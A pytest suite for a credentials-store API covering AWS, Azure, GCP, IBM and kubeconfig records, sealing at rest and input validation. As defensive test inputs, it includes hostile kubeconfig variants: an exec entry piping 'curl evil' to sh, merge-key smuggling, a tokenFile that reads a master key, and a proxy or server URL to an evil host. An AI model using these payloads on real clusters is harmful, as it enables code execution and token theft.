"""Issue 4: the credentials API for all five types, sealed at rest."""
import base64
import json
import os
import time

import pytest

from harness import Daemon, assert_error
from test_auth import basic, new_key

FIX = os.path.join(os.path.dirname(__file__), "..", "fixtures")
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY"


def fixture(name):
    with open(os.path.join(FIX, name)) as f:
        return f.read()


def valid_bodies():
    sa = fixture("gcp-service-account.json")
    return {
        "aws-static": {"type": "aws", "accountID": "AKIAIOSFODNN7EXAMPLE",
                       "secret": {"plain": AWS_SECRET}, "description": "prod account"},
        "aws-role": {"type": "aws", "useAWSRole": True,
                     "roleArn": "arn:aws:iam::123456789012:role/scanner",
                     "externalID": "ext-42", "durationSeconds": 1800,
                     "useSTSRegionalEndpoint": True, "region": "eu-west-1"},
        "azure-sp": {"type": "azure", "secret": {"plain": fixture("azure-sdk-auth.json")}},
        "gcp-sa": {"type": "gcp", "secret": {"plain": sa}},
        "gcp-token": {"type": "gcp", "apiToken": {"plain": "AIzaSyD-test-api-token-1234567890"}},
        "ibm-1": {"type": "ibmCloud", "accountGUID": "0123456789abcdef0123456789abcdef",
                  "secret": {"plain": "ibm-api-key-abcdefghijklmnopqrstuvwxyz012345"}},
        "kube-token": {"type": "kubeconfig", "secret": {"plain": fixture("kubeconfig-token.yaml")}},
        "kube-cert": {"type": "kubeconfig",
                      "secret": {"plain": fixture("kubeconfig-client-cert.yaml")}},
        "kube-multi": {"type": "kubeconfig", "secret": {"plain": fixture("kubeconfig-multi.yaml")}},
    }


@pytest.fixture(scope="module")
def d():
    dd = Daemon().start()
    dd.auth = {"Authorization": basic(dd.admin["id"], dd.admin["secret"])}
    yield dd
    assert dd.stop() == 0
    dd.close()


def create(d, cid, body, headers=None):
    b = dict(body, _id=cid)
    return d.post("/api/v1/credentials", json=b, headers=headers or d.auth)


def assert_no_secret(obj, *secrets):
    text = json.dumps(obj)
    for s in secrets:
        assert s not in text


def test_every_type_creates_reads_and_updates(d):
    gsa = json.loads(fixture("gcp-service-account.json"))
    azure = json.loads(fixture("azure-sdk-auth.json"))
    for cid, body in valid_bodies().items():
        r = create(d, cid, body)
        assert r.status_code == 201, (cid, r.text)
        c = r.json()
        assert c["_id"] == cid and c["type"] == body["type"] and c["version"] == 1
        assert c["owner"] == d.admin["id"]
        assert c["created"].endswith("Z") and c["lastModified"] == c["created"]
        got = d.get("/api/v1/credentials/" + cid, headers=d.auth).json()
        assert got == c
        secret_input = body.get("secret") or body.get("apiToken")
        if secret_input:
            field = "apiToken" if "apiToken" in body else "secret"
            assert set(got[field]) == {"encrypted"}, got
            assert_no_secret(got, secret_input["plain"])
        else:
            assert "secret" not in got
    get = lambda cid: d.get("/api/v1/credentials/" + cid, headers=d.auth).json()
    # Derived metadata.
    assert get("aws-static")["accountID"] == "AKIAIOSFODNN7EXAMPLE"
    role = get("aws-role")
    assert role["roleArn"].endswith(":role/scanner") and role["externalID"] == "ext-42"
    assert role["durationSeconds"] == 1800 and role["useAWSRole"] is True
    assert role["region"] == "eu-west-1" and role["useSTSRegionalEndpoint"] is True
    az = get("azure-sp")
    assert az["accountID"] == azure["clientId"]
    assert az["azureSPInfo"] == {"clientId": azure["clientId"], "tenantId": azure["tenantId"],
                                 "subscriptionId": azure["subscriptionId"]}
    g = get("gcp-sa")
    assert g["accountID"] == gsa["client_email"] and g["projectID"] == gsa["project_id"]
    assert "apiToken" in get("gcp-token") and "secret" not in get("gcp-token")
    assert get("ibm-1")["accountGUID"] == "0123456789abcdef0123456789abcdef"
    kt = get("kube-token")["kubeconfig"]
    assert kt["currentContext"] and kt["clusters"] and all(
        set(c) == {"name", "server"} and c["server"].startswith("https://") for c in kt["clusters"])
    assert len(get("kube-multi")["kubeconfig"]["clusters"]) >= 2
    # An update bumps the version and keeps created and owner.
    before = get("ibm-1")
    time.sleep(1.1)
    r = create(d, "ibm-1", dict(valid_bodies()["ibm-1"], description="rotated"))
    assert r.status_code == 200, r.text
    after = r.json()
    assert after["version"] == 2 and after["description"] == "rotated"
    assert after["created"] == before["created"] and after["lastModified"] > before["lastModified"]
    assert after["owner"] == before["owner"]


INVALID = [
    ("aws", {"type": "aws", "accountID": "AKIAIOSFODNN7EXAMPLE"}, "secret.plain"),
    ("aws", {"type": "aws", "accountID": "not-a-key", "secret": {"plain": "x" * 40}}, "accountID"),
    ("aws", {"type": "aws", "accountID": 12, "secret": {"plain": "x" * 40}}, "accountID"),
    ("aws", {"type": "aws", "useAWSRole": True, "roleArn": "arn:aws:iam::12:role/x"}, "roleArn"),
    ("aws", {"type": "aws", "useAWSRole": True, "roleArn": "arn:aws:s3:::bucket"}, "roleArn"),
    ("aws", {"type": "aws", "useAWSRole": True, "durationSeconds": 899}, "durationSeconds"),
    ("aws", {"type": "aws", "useAWSRole": True, "durationSeconds": 43201}, "durationSeconds"),
    ("aws", {"type": "aws", "useAWSRole": True, "durationSeconds": "3600"}, "durationSeconds"),
    ("aws", {"type": "aws", "useAWSRole": True, "externalID": "a"}, "externalID"),
    ("aws", {"type": "aws", "useAWSRole": True, "externalID": "bad id!"}, "externalID"),
    ("aws", {"type": "aws", "useAWSRole": True, "accountID": "AKIAIOSFODNN7EXAMPLE",
             "secret": {"plain": "x" * 40}}, None),
    ("aws", {"type": "aws", "useAWSRole": 1}, "useAWSRole"),
    ("azure", {"type": "azure", "secret": {"plain": "not json"}}, "secret.plain"),
    ("azure", {"type": "azure", "secret": {"plain": json.dumps(
        {"clientId": "a", "tenantId": "b", "subscriptionId": "c"})}}, "secret.plain.clientSecret"),
    ("azure", {"type": "azure", "secret": "plain-string"}, "secret"),
    ("gcp", {"type": "gcp", "secret": {"plain": json.dumps({"type": "user"})}}, None),
    ("gcp", {"type": "gcp", "apiToken": {"plain": "t" * 20}, "secret": {"plain": "{}"}}, "apiToken"),
    ("gcp", {"type": "gcp"}, None),
    ("ibmCloud", {"type": "ibmCloud", "secret": {"plain": "key"}}, "accountGUID"),
    ("ibmCloud", {"type": "ibmCloud", "accountGUID": "abc"}, "secret.plain"),
    ("kubeconfig", {"type": "kubeconfig", "secret": {"plain": ": not: [yaml"}}, "secret.plain"),
    ("kubeconfig", {"type": "kubeconfig",
                    "secret": {"plain": fixture("kubeconfig-bad-context.yaml")}}, "secret.plain"),
    ("other", {"type": "vault", "secret": {"plain": "x"}}, "type"),
    ("other", {"secret": {"plain": "x"}}, "type"),
    ("other", {"type": "aws", "useAWSRole": True, "description": 5}, "description"),
]


@pytest.mark.parametrize("kind,body,field", INVALID)
def test_invalid_bodies_get_400_naming_the_field(d, kind, body, field):
    r = create(d, "invalid-x", body)
    err = assert_error(r, 400)
    assert err["code"] in ("invalid_field", "missing_field"), err
    if field:
        assert err["field"] == field, err
    assert isinstance(err.get("field"), str) and err["field"]
    for s in [AWS_SECRET, "t" * 20]:
        assert s not in r.text
    assert_error(d.get("/api/v1/credentials/invalid-x", headers=d.auth), 404)


@pytest.mark.parametrize("name", ["kubeconfig-exec-eks.yaml", "kubeconfig-auth-provider-gke.yaml"])
def test_kubeconfig_exec_and_auth_provider_refused_with_reason(d, name):
    r = create(d, "kube-bad", {"type": "kubeconfig", "secret": {"plain": fixture(name)}})
    err = assert_error(r, 400, "invalid_field")
    msg = err["err"].lower()
    assert "exec" in msg or "auth-provider" in msg, err
    assert "gke" in msg or "eks" in msg or "external" in msg, err


def kube_variant(user=None, cluster=None, entry=None, top=""):
    """kubeconfig-token.yaml with its user's or cluster's body replaced (the
    lines under "  user:" / "  cluster:"), or its user entry replaced whole."""
    text = fixture("kubeconfig-token.yaml")
    tok_line = next(l for l in text.splitlines() if l.strip().startswith("token:"))
    ca_line = next(l for l in text.splitlines() if "certificate-authority-data" in l)
    if user is not None:
        text = text.replace(tok_line, tok_line + "\n" + user.rstrip("\n"))
    if cluster is not None:
        text = text.replace(ca_line, ca_line + "\n" + cluster.rstrip("\n"))
    if entry is not None:
        start = text.index("users:\n")
        text = text[:start] + "users:\n" + entry
    return top + text


KUBE_TOKEN = fixture("kubeconfig-token.yaml").split("token: ")[1].strip()

# Issue 11: each of these would make kubectl run a program, read a local file
# or send the token elsewhere. (variant, where the message must point)
HOSTILE_KUBECONFIGS = [
    (kube_variant(user="    <<: {exec: {command: /bin/sh, args: [-c, 'curl evil | sh']}}"),
     "users[0].user.<<"),
    (kube_variant(user="    <<:\n      exec:\n        command: /bin/sh\n"), "users[0].user.<<"),
    (kube_variant(user='    "<<": {exec: {command: /bin/sh}}'), "users[0].user.<<"),
    (kube_variant(user="    !!merge <<: {exec: {command: /bin/sh}}"), "users[0].user.<<"),
    (kube_variant(entry="- name: credstore-scanner\n  <<: {user: {auth-provider: {name: gcp}}}\n"),
     "users[0].<<"),
    (kube_variant(top="x-plugin: &p {exec: {command: /bin/sh}}\n", user="    <<: *p"),
     "x-plugin"),
    (kube_variant(user="    token2: &t x"), "users[0].user.token2"),
    (kube_variant(user="    tokenFile: /etc/credstore/master.key"), "users[0].user.tokenFile"),
    (kube_variant(user="    client-certificate: /home/u/.kube/c.crt\n    client-key: /home/u/k"),
     "users[0].user.client-certificate"),
    (kube_variant(user="    exec: {command: /bin/sh}"), "users[0].user.exec"),
    (kube_variant(user="    Exec: {command: /bin/sh}"), "users[0].user.Exec"),
    (kube_variant(cluster="    certificate-authority: /etc/ssl/private/ca.pem"),
     "clusters[0].cluster.certificate-authority"),
    (kube_variant(cluster="    proxy-url: http://evil.example.com:3128"),
     "clusters[0].cluster.proxy-url"),
    (kube_variant(cluster="    insecure-skip-tls-verify: true"),
     "clusters[0].cluster.insecure-skip-tls-verify"),
    (kube_variant().replace("https://10.96.0.1:6443", "http://10.96.0.1:6443"),
     "clusters[0].cluster.server"),
    (kube_variant().replace("https://10.96.0.1:6443", "http://127.0.0.1@evil.example.com"),
     "clusters[0].cluster.server"),
]


def test_hostile_kubeconfigs_refused_and_nothing_stored(d):
    def ids():
        r = d.get("/api/v1/credentials", headers=d.auth)
        assert r.status_code == 200, r.text
        return sorted(c["_id"] for c in r.json())

    # An existing kubeconfig credential must not be replaced by one either.
    r = create(d, "kube-hostile-edit", valid_bodies()["kube-token"])
    assert r.status_code in (200, 201), r.text
    kept = r.json()
    before = ids()
    for i, (yaml_text, where) in enumerate(HOSTILE_KUBECONFIGS):
        for cid in ["kube-hostile-%d" % i, "kube-hostile-edit"]:
            r = create(d, cid, {"type": "kubeconfig", "secret": {"plain": yaml_text}})
            err = assert_error(r, 400, "invalid_field")
            assert err["field"] == "secret.plain", err
            assert where in err["err"], (where, err)
            assert KUBE_TOKEN not in r.text and "/bin/sh" not in r.text
        assert_error(d.get("/api/v1/credentials/kube-hostile-%d" % i, headers=d.auth), 404)
    assert ids() == before
    assert d.get("/api/v1/credentials/kube-hostile-edit", headers=d.auth).json() == kept
    # The same fixture without the additions is still accepted.
    assert create(d, "kube-hostile-0", {"type": "kubeconfig",
                                        "secret": {"plain": kube_variant()}}).status_code == 201


def test_bad_requests(d):
    assert_error(d.post("/api/v1/credentials", data=b"{", headers=d.auth), 400, "malformed_json")
    assert_error(d.post("/api/v1/credentials", data=b"[1]", headers=d.auth), 400)
    assert_error(d.post("/api/v1/credentials", data=b"[" * 100 + b"]" * 100, headers=d.auth),
                 400, "json_too_deep")
    # Names (API.md §3 v2): spaces inside are fine; these spellings are not.
    for bad in ["bad/id", "bad\\id", " lead", "trail ", ".", "..", "tab\tx", "nl\n", "del\x7f",
                "c1\x85", "x" * 129, "", "\u00fc" * 129]:
        assert_error(create(d, bad, {"type": "aws", "useAWSRole": True}), 400, "invalid_id")
    assert_error(d.post("/api/v1/credentials", json={"type": "aws"}, headers=d.auth), 400)
    for path in ["bad%2Fid", "bad%5Cid", "%20lead", "trail%20", "tab%09x", "x%00", "%C3", "%FF",
                 "%C0%AF", "%2E%2E", "%2e", "x" * 129]:
        assert_error(d.get("/api/v1/credentials/" + path, headers=d.auth), 400, "invalid_id")
    assert_error(d.get("/api/v1/credentials/nope", headers=d.auth), 404, "not_found")
    assert_error(d.delete("/api/v1/credentials/nope", headers=d.auth), 404, "not_found")
    assert_error(d.put("/api/v1/credentials/nope", json={"type": "aws", "useAWSRole": True},
                       headers=d.auth), 404, "not_found")
    # Creation with id of 128 chars works.
    assert create(d, "y" * 128, {"type": "aws", "useAWSRole": True}).status_code == 201
    assert d.delete("/api/v1/credentials/" + "y" * 128, headers=d.auth).status_code == 204


def test_get_edit_post_round_trip_keeps_the_secret(d):
    body = valid_bodies()["azure-sp"]
    create(d, "rt-azure", body)
    got = d.get("/api/v1/credentials/rt-azure", headers=d.auth).json()
    got["description"] = "edited by a Prisma-style client"
    got["azureSPInfo"] = {"clientId": "read-only fields are ignored"}
    r = d.post("/api/v1/credentials", json=got, headers=d.auth)
    assert r.status_code == 200, r.text
    c = r.json()
    assert c["version"] == got["version"] + 1
    assert c["description"] == "edited by a Prisma-style client"
    assert c["secret"] == got["secret"], "the kept secret keeps its encrypted value"
    assert c["azureSPInfo"]["clientId"] != "read-only fields are ignored"
    # Omitting the secret keeps it too (PUT).
    del got["secret"]
    r = d.put("/api/v1/credentials/rt-azure", json=got, headers=d.auth)
    assert r.status_code == 200 and r.json()["secret"] == c["secret"]
    # A new plain secret replaces it.
    new = json.loads(fixture("azure-sdk-auth.json"))
    new["clientSecret"] = "brand-new-client-secret-value"
    r = d.put("/api/v1/credentials/rt-azure", json={"type": "azure",
              "secret": {"plain": json.dumps(new)}}, headers=d.auth)
    assert r.status_code == 200 and r.json()["secret"] != c["secret"]
    assert "brand-new-client-secret-value" not in r.text


def test_encrypted_value_of_another_record_is_refused(d):
    create(d, "mv-a", valid_bodies()["ibm-1"])
    create(d, "mv-b", dict(valid_bodies()["ibm-1"], secret={"plain": "another-ibm-api-key-123"}))
    a = d.get("/api/v1/credentials/mv-a", headers=d.auth).json()
    b = d.get("/api/v1/credentials/mv-b", headers=d.auth).json()
    b2 = dict(b, secret=a["secret"])
    err = assert_error(d.post("/api/v1/credentials", json=b2, headers=d.auth), 400)
    assert err["field"] == "secret.encrypted"
    assert d.get("/api/v1/credentials/mv-b", headers=d.auth).json() == b
    # On create, an encrypted value can't stand in for a secret at all.
    assert_error(create(d, "mv-c", dict(valid_bodies()["ibm-1"], secret=a["secret"])), 400)


def test_put_if_match_type_change_and_delete(d):
    create(d, "pm", valid_bodies()["aws-role"])
    r = d.put("/api/v1/credentials/pm", json=valid_bodies()["aws-role"],
              headers=dict(d.auth, **{"If-Match": "7"}))
    assert_error(r, 412, "precondition_failed")
    assert d.get("/api/v1/credentials/pm", headers=d.auth).json()["version"] == 1
    r = d.put("/api/v1/credentials/pm", json=valid_bodies()["aws-role"],
              headers=dict(d.auth, **{"If-Match": '"1"'}))
    assert r.status_code == 200 and r.json()["version"] == 2
    assert_error(d.put("/api/v1/credentials/pm", json=valid_bodies()["aws-role"],
                       headers=dict(d.auth, **{"If-Match": "x"})), 400)
    assert_error(d.put("/api/v1/credentials/pm", json=dict(valid_bodies()["aws-role"], _id="zz"),
                       headers=d.auth), 400)
    err = assert_error(create(d, "pm", valid_bodies()["ibm-1"]), 400)
    assert err["field"] == "type"
    assert d.delete("/api/v1/credentials/pm", headers=d.auth).status_code == 204
    assert_error(d.get("/api/v1/credentials/pm", headers=d.auth), 404)


def test_list_paging_filter_sort():
    dd = Daemon().start()
    try:
        auth = {"Authorization": basic(dd.admin["id"], dd.admin["secret"])}
        ids = []
        for i in range(300):
            cid = "c%03d" % i
            body = ({"type": "ibmCloud", "accountGUID": "g%d" % i, "secret": {"plain": "k%d" % i}}
                    if i % 3 == 0 else {"type": "aws", "useAWSRole": True,
                                        "description": "team-%s" % ("red" if i % 2 else "blue")})
            assert dd.post("/api/v1/credentials", json=dict(body, _id=cid),
                           headers=auth).status_code == 201
            ids.append(cid)
        r = dd.get("/api/v1/credentials", headers=auth)
        assert r.status_code == 200 and r.headers["Total-Count"] == "300"
        assert [c["_id"] for c in r.json()] == ids[:50]
        r = dd.get("/api/v1/credentials?offset=290&limit=20", headers=auth)
        assert [c["_id"] for c in r.json()] == ids[290:]
        r = dd.get("/api/v1/credentials?limit=500", headers=auth)
        assert len(r.json()) == 300
        r = dd.get("/api/v1/credentials?reverse=true&limit=3", headers=auth)
        assert [c["_id"] for c in r.json()] == ids[::-1][:3]
        r = dd.get("/api/v1/credentials?type=ibmCloud&limit=500", headers=auth)
        assert r.headers["Total-Count"] == "100"
        assert all(c["type"] == "ibmCloud" for c in r.json()) and len(r.json()) == 100
        r = dd.get("/api/v1/credentials?search=TEAM-RED&limit=500", headers=auth)
        expect = [c for i, c in enumerate(ids) if i % 3 and i % 2]
        assert [c["_id"] for c in r.json()] == expect
        assert r.headers["Total-Count"] == str(len(expect))
        r = dd.get("/api/v1/credentials?search=c29&offset=5&limit=3", headers=auth)
        assert r.headers["Total-Count"] == "10" and [c["_id"] for c in r.json()] == ids[295:298]
        r = dd.get("/api/v1/credentials?sort=type&limit=500", headers=auth)
        types = [c["type"] for c in r.json()]
        assert types == sorted(types)
        r = dd.get("/api/v1/credentials?sort=type&reverse=1&limit=1", headers=auth)
        assert r.json()[0]["type"] == "ibmCloud"
        # An update moves a record to the end of lastModified order.
        time.sleep(1.1)
        assert dd.post("/api/v1/credentials", json={"_id": "c000", "type": "ibmCloud",
                       "accountGUID": "g0"}, headers=auth).status_code == 200
        r = dd.get("/api/v1/credentials?sort=lastModified&reverse=true&limit=1", headers=auth)
        assert r.json()[0]["_id"] == "c000"
        for bad in ["limit=0", "limit=501", "offset=-1", "limit=abc", "type=vault",
                    "sort=password", "reverse=maybe"]:
            assert_error(dd.get("/api/v1/credentials?" + bad, headers=auth), 400, "invalid_query")
    finally:
        assert dd.stop() == 0
        dd.close()


def test_scope_filters_gets_lists_and_writes(d):
    for cid in ["aws-scope-1", "aws-scope-2", "kube-staging"]:
        create(d, cid, valid_bodies()["aws-role"])
    k = new_key(d, d.auth["Authorization"], "operator", scope=["aws-scope-*", "kube-staging"])
    h = {"Authorization": basic(k["id"], k["secret"])}
    r = d.get("/api/v1/credentials?limit=500", headers=h)
    assert sorted(c["_id"] for c in r.json()) == ["aws-scope-1", "aws-scope-2", "kube-staging"]
    assert r.headers["Total-Count"] == "3"
    r = d.get("/api/v1/credentials?search=scope&limit=500", headers=h)
    assert r.headers["Total-Count"] == "2"
    assert d.get("/api/v1/credentials/aws-scope-1", headers=h).status_code == 200
    assert_error(d.get("/api/v1/credentials/aws-static", headers=h), 404)
    assert_error(d.delete("/api/v1/credentials/aws-static", headers=h), 404)
    assert_error(d.put("/api/v1/credentials/aws-static", json=valid_bodies()["aws-static"],
                       headers=h), 404)
    assert_error(create(d, "outside", valid_bodies()["aws-role"], headers=h), 403)
    r = create(d, "aws-scope-3", valid_bodies()["aws-role"], headers=h)
    assert r.status_code == 201 and r.json()["owner"] == k["id"]
    # An update by the admin keeps the creator as owner.
    r = create(d, "aws-scope-3", valid_bodies()["aws-role"])
    assert r.json()["owner"] == k["id"] and r.json()["version"] == 2


def b64variants(s):
    raw = s.encode()
    return [base64.b64encode(raw), base64.urlsafe_b64encode(raw),
            base64.b64encode(raw).rstrip(b"="), raw.hex().encode()]


def test_no_plaintext_secret_reaches_disk_or_log():
    dd = Daemon().start()
    try:
        auth = {"Authorization": basic(dd.admin["id"], dd.admin["secret"])}
        secrets = []
        for cid, body in valid_bodies().items():
            assert dd.post("/api/v1/credentials", json=dict(body, _id=cid),
                           headers=auth).status_code == 201
            s = (body.get("secret") or body.get("apiToken") or {}).get("plain")
            if s:
                secrets.append(s)
        # Distinctive inner values too: the RSA key body, the azure client secret, a token.
        sa = json.loads(fixture("gcp-service-account.json"))
        pem_lines = [l for l in sa["private_key"].splitlines() if l and "-----" not in l]
        azure = json.loads(fixture("azure-sdk-auth.json"))
        needles = [s.encode() for s in secrets]
        needles += [l.encode() for l in pem_lines[1:4]]
        needles.append(azure["clientSecret"].encode())
        for s in [AWS_SECRET, azure["clientSecret"], "ibm-api-key-abcdefghijklmnopqrstuvwxyz012345"]:
            needles += b64variants(s)
        kube = fixture("kubeconfig-token.yaml")
        tok = [l.split(":", 1)[1].strip() for l in kube.splitlines() if l.strip().startswith("token:")]
        assert tok, "fixture has a token user"
        needles.append(tok[0].encode())
        # Secrets go through lists and updates too.
        dd.get("/api/v1/credentials?limit=500", headers=auth)
        dd.post("/api/v1/credentials", json=dict(valid_bodies()["ibm-1"], _id="ibm-1"), headers=auth)
        assert dd.stop() == 0
        files = []
        for root, _, names in os.walk(dd.data):
            files += [os.path.join(root, n) for n in names]
        files.append(dd.log_path)
        assert any(f.endswith("data.mdb") for f in files)
        for f in files:
            blob = open(f, "rb").read()
            for n in needles:
                assert n not in blob, "secret material found in %s" % f
    finally:
        dd.close()


def test_sealed_records_survive_a_restart():
    dd = Daemon().start()
    try:
        auth = {"Authorization": basic(dd.admin["id"], dd.admin["secret"])}
        body = valid_bodies()["azure-sp"]
        assert dd.post("/api/v1/credentials", json=dict(body, _id="keep"),
                       headers=auth).status_code == 201
        uid = dd.post("/api/v1/credentials/keep/usages", json={"type": "Alert profile"},
                      headers=auth).json()["id"]
        before = dd.get("/api/v1/credentials/keep", headers=auth).json()
        assert dd.stop() == 0
        dd.start()
        assert dd.get("/api/v1/credentials/keep", headers=auth).json() == before
        m = dd.post("/api/v1/credentials/keep/resolve", json={"usageId": uid}, headers=auth)
        assert m.status_code == 200
        assert m.json()["serviceKey"] == json.loads(body["secret"]["plain"])
        assert dd.stop() == 0
    finally:
        dd.close()
